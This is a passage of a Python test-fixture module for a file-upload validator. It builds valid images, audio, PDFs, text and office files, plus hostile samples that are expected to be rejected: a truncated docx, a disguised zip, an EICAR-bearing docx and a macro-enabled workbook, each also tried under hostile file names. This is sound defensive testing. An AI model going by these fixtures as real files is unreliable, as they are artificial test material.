        Sample("docx cut in half", docx()[: len(docx()) // 2], doc, lim, code="forbidden_type"),
        Sample(
            "plain zip as .docx", office_zip({"a.txt": b"hello"}), doc, lim, code="forbidden_type"
        ),
        Sample(
            "legacy .doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200,
            doc,
            lim,
            code="forbidden_type",
        ),
        Sample("xlsx where only docx goes", xlsx(), doc, lim, code="not_allowed"),
        Sample(
            "eicar inside a docx",
            office_zip(docx_parts({"word/x.txt": EICAR}), stored=True),
            doc,
            lim,
            code="malware",
        ),
        Sample(
            "xlsm with macros",
            office_zip(
                {
                    "[Content_Types].xml": b"<Types>macroEnabled</Types>",
                    "xl/workbook.xml": b"<workbook/>",
                }
            ),
            (Kind.XLSX,),
            lim,
            code="office_active_content",
        ),
        Sample("docx over the limit", docx(), doc, UploadLimits(max_bytes=1000), code="too_large"),
    ]


@cache
def malicious() -> tuple[Sample, ...]:
    """UPL-1: every hostile file, each once under its own name and again under every hostile
    name (the name must change nothing)."""
    base = (
        _image_samples() + _audio_samples() + _pdf_samples() + _text_samples() + _office_samples()
    )
    renamed = [
        Sample(
            f"{sample.label} as {name[:30]!r}",
            sample.data,
            sample.allowed,
            sample.limits,
            name=name,
            content_type="image/jpeg",
            code=sample.code,
        )
        for sample in base[:8]
        for name in HOSTILE_NAMES
    ]
    return tuple(base + renamed)


def orientation_fixture(orientation: int) -> bytes:
    """A JPEG whose pixels are stored so that, with EXIF orientation `orientation` applied,
    the picture shows red top-left and green bottom-right in a 64 x 48 (landscape) frame.
    The stored transform is the inverse of what the EXIF specification says a viewer does."""
    from PIL import Image

    shown = pil_image("RGB", (64, 48))
    transpose = Image.Transpose
    stored = {
        1: lambda im: im,
        2: lambda im: im.transpose(transpose.FLIP_LEFT_RIGHT),
        3: lambda im: im.transpose(transpose.ROTATE_180),
        4: lambda im: im.transpose(transpose.FLIP_TOP_BOTTOM),
        5: lambda im: im.transpose(transpose.TRANSPOSE),
        6: lambda im: im.transpose(transpose.ROTATE_90),  # viewer rotates 90 clockwise
        7: lambda im: im.transpose(transpose.TRANSVERSE),
        8: lambda im: im.transpose(transpose.ROTATE_270),  # viewer rotates 90 anticlockwise
    }[orientation](shown)
    exif = Image.Exif()
    exif[0x0112] = orientation
    return save(stored, "JPEG", quality=95, exif=exif.tobytes())


def _valid_images() -> list[Sample]:
    from PIL import Image, ImageCms

    img, lim = (Kind.IMAGE,), IMAGE_LIMITS
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    palette_transparent = pil_image("P")
    palette_transparent.info["transparency"] = 0
    samples = [
        ("baseline jpeg", jpeg(), "image/jpeg"),
        ("progressive jpeg", jpeg(progressive=True), "image/jpeg"),
        ("optimised jpeg 4:2:0", jpeg(optimize=True, subsampling=2), "image/jpeg"),
        ("cmyk jpeg", save(pil_image("CMYK"), "JPEG", quality=90), "image/jpeg"),
        ("progressive cmyk jpeg", save(pil_image("CMYK"), "JPEG", progressive=True), "image/jpeg"),
        ("greyscale jpeg", save(pil_image("L"), "JPEG"), "image/jpeg"),
        ("jpeg with srgb icc", save(pil_image(), "JPEG", icc_profile=srgb), "image/jpeg"),
        ("large jpeg 2400x1800", jpeg(size=(2400, 1800)), "image/jpeg"),
        ("portrait jpeg", jpeg(size=(48, 64)), "image/jpeg"),
        ("rgb png", save(pil_image(), "PNG"), "image/png"),
        ("rgba png", save(pil_image("RGBA"), "PNG"), "image/png"),
        ("palette png", save(pil_image("P"), "PNG"), "image/png"),
        ("palette png with transparency", save(palette_transparent, "PNG"), "image/png"),
        ("greyscale png", save(pil_image("L"), "PNG"), "image/png"),
        ("grey+alpha png", save(pil_image("LA"), "PNG"), "image/png"),
        ("1-bit png", save(pil_image("1"), "PNG"), "image/png"),
        (
            "16-bit grey png",
            save(pil_image("L").convert("I").point(lambda v: v * 257).convert("I;16"), "PNG"),
            "image/png",
        ),
        ("16-bit rgb png", png_16bit_rgb(), "image/png"),
        ("16-bit rgba png", png_16bit_rgb(alpha=True), "image/png"),
        (
            "tiny hand-written png",
            raw_png(2, 2, rows=b"\x00" + b"\x10" * 6 + b"\x00" + b"\x20" * 6),
            "image/png",
        ),
        ("lossy webp", save(pil_image(), "WEBP", quality=80), "image/webp"),
        ("lossless webp", save(pil_image(), "WEBP", lossless=True), "image/webp"),
        ("webp with alpha", save(pil_image("RGBA"), "WEBP"), "image/webp"),
        ("1x1 png", save(Image.new("RGB", (1, 1)), "PNG"), "image/png"),
    ]
    result = [
        Sample(label, data, img, lim, name="art.jpg", expect={"mime": mime})
        for label, data, mime in samples
    ]
    result += [
        Sample(
            f"jpeg exif orientation {n}",
            orientation_fixture(n),
            img,
            lim,
            name=f"orientation-{n}.jpg",
            expect={"mime": "image/jpeg", "orientation": n},
        )
        for n in range(1, 9)
    ]
    return result


def _valid_audio() -> list[Sample]:
    aud, lim = (Kind.AUDIO,), AUDIO_LIMITS
    samples = [
        ("mp3 id3v2.4", with_id3(mp3()), "audio/mpeg"),
        ("mp3 without tags", mp3(), "audio/mpeg"),
        ("mp3 stereo 48 kHz", mp3(rate=48000, channels=2), "audio/mpeg"),
        ("mp3 22 kHz", mp3(rate=22050), "audio/mpeg"),
        ("wav 16-bit", wav(), "audio/wav"),
        ("wav 24-bit stereo", wav(channels=2, subtype="PCM_24"), "audio/wav"),
        ("wav 8 kHz 8-bit", wav(rate=8000, subtype="PCM_U8"), "audio/wav"),
        ("wav float", wav(subtype="FLOAT"), "audio/wav"),
        ("flac", flac(), "audio/flac"),
        (
            "flac stereo with tags and picture",
            with_vorbis_comments(flac(channels=2), "flac"),
            "audio/flac",
        ),
        ("ogg vorbis", ogg(), "audio/ogg"),
        ("ogg vorbis stereo with tags", with_vorbis_comments(ogg(channels=2), "ogg"), "audio/ogg"),
        ("ogg 3 seconds", ogg(seconds=3), "audio/ogg"),
    ]
    return [
        Sample(label, data, aud, lim, name="song.mp3", expect={"mime": mime})
        for label, data, mime in samples
    ]


def _valid_pdfs() -> list[Sample]:
    pdf, lim = (Kind.PDF,), PDF_LIMITS
    samples = [
        ("reportlab one page", reportlab_pdf()),
        ("reportlab five pages", reportlab_pdf(5)),
        ("reportlab with an image", reportlab_pdf(1, image=True)),
        ("reportlab with author", reportlab_pdf(1, author=CANARY)),
        ("pdf with xmp and info", pdf_with_xmp_and_info()),
        ("hand-written pdf", raw_pdf(PAGE_OBJECTS)),
        ("pdf 1.5 object stream", pdf_in_object_stream(b"")),
        ("pdf with a language tag", pdf_with_catalog(b"/Lang (en)")),
    ]
    return [
        Sample(label, data, pdf, lim, name="form.pdf", expect={"mime": "application/pdf"})
        for label, data in samples
    ]


def _valid_texts() -> list[Sample]:
    txt, lim = (Kind.TEXT,), UploadLimits(max_bytes=200 * 1024, max_lines=40, max_words=500)
    samples = [
        (
            "ascii poem",
            b"Roses are red,\nviolets are blue.\n",
            "Roses are red,\nviolets are blue.\n",
        ),
        ("french in nfd", "Cafe\u0301 au lait\n".encode(), "Café au lait\n"),
        ("utf-8 bom", b"\xef\xbb\xbfHello\n", "Hello\n"),
        ("crlf line ends", b"one\r\ntwo\r\n", "one\ntwo\n"),
        (
            "emoji",
            "Sun \U0001f31e and moon \U0001f319\n".encode(),
            "Sun \U0001f31e and moon \U0001f319\n",
        ),
        ("arabic", "مرحبا بالعالم\n".encode(), "مرحبا بالعالم\n"),
        ("japanese", "古池や 蛙飛び込む 水の音\n".encode(), "古池や 蛙飛び込む 水の音\n"),
        ("tabs and a bell", b"a\tb\x07c\n", "a\tbc\n"),
        ("exactly 40 lines", b"line\n" * 40, "line\n" * 40),
        ("angle brackets in a poem", b"I <3 you\na < b > c\n", "I <3 you\na < b > c\n"),
    ]
    return [
        Sample(label, data, txt, lim, name="poem.txt", expect={"mime": "text/plain", "text": text})
        for label, data, text in samples
    ]


def _valid_office() -> list[Sample]:
    docx_mime = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    xlsx_mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return [
        Sample(
            "python-docx document",
            docx(),
            (Kind.DOCX,),
            OFFICE_LIMITS,
            name="t.docx",
            expect={"mime": docx_mime},
        ),
        Sample(
            "docx with accents",
            docx("Collecte de fonds : réseau"),
            (Kind.DOCX,),
            OFFICE_LIMITS,
            name="t.docx",
            expect={"mime": docx_mime},
        ),
        Sample(
            "openpyxl workbook",
            xlsx(),
            (Kind.XLSX,),
            OFFICE_LIMITS,
            name="b.xlsx",
            expect={"mime": xlsx_mime},
        ),
    ]


@cache
def valid() -> tuple[Sample, ...]:
    return tuple(
        _valid_images() + _valid_audio() + _valid_pdfs() + _valid_texts() + _valid_office()
    )


@cache
def with_metadata() -> tuple[Sample, ...]:
    """UPL-3: files whose metadata fields all carry CANARY (and GPS coordinates)."""
    img, aud, pdf = (Kind.IMAGE,), (Kind.AUDIO,), (Kind.PDF,)
    from PIL import PngImagePlugin

    png_info = PngImagePlugin.PngInfo()
    png_info.add_text("Author", CANARY)
    png_info.add_text("Comment", CANARY, zip=True)
    png_info.add_itxt("XML:com.adobe.xmp", xmp_packet(CANARY).decode())
    exif = exif_with_gps().tobytes()
    full_jpeg = save(
        pil_image(), "JPEG", exif=exif, comment=CANARY.encode(), xmp=xmp_packet(CANARY)
    )
    return (
        Sample("jpeg with exif gps, xmp, comment", full_jpeg, img, IMAGE_LIMITS),
        Sample(
            "jpeg with iptc",
            jpeg_with_segments([iptc_segment(CANARY)], base=full_jpeg),
            img,
            IMAGE_LIMITS,
        ),
        Sample(
            "png with text, xmp and exif",
            save(pil_image(), "PNG", pnginfo=png_info, exif=exif),
            img,
            IMAGE_LIMITS,
        ),
        Sample(
            "webp with exif and xmp",
            save(pil_image(), "WEBP", exif=exif, xmp=xmp_packet(CANARY)),
            img,
            IMAGE_LIMITS,
        ),
        Sample("mp3 with id3 tpe1, comm, apic", with_id3(mp3()), aud, AUDIO_LIMITS),
        Sample(
            "flac with comments and picture",
            with_vorbis_comments(flac(), "flac"),
            aud,
            AUDIO_LIMITS,
        ),
        Sample("ogg with comments", with_vorbis_comments(ogg(), "ogg"), aud, AUDIO_LIMITS),
        Sample("pdf with info and xmp", pdf_with_xmp_and_info(), pdf, PDF_LIMITS),
    )


__all__ = ["ALL_KINDS", "CANARY", "EICAR", "Sample", "malicious", "valid", "with_metadata"]
